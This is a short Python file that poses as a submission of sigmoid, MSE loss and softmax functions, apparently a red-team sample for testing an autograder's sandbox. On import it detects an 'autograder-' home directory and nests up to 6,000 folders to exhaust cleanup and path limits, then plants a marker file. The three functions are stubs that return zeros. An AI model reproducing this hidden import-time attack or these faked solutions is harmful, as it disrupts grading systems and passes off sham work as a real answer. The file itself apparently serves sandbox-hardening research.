"""Nests 6,000 folders, deeper than a recursive cleaner can follow and longer than any path may be.

aims: exhaust
"""

import os
import time

import numpy as np


def attack():
    home = os.environ.get("HOME", "")
    if not os.path.basename(home).startswith("autograder-"):
        return
    end = time.monotonic() + 20
    os.chdir(home)
    for _ in range(6000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
        if time.monotonic() > end:
            break
    try:
        with open("bottom", "w") as file:
            file.write("PLANTED-by-deep_directory")
    except OSError:
        pass


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
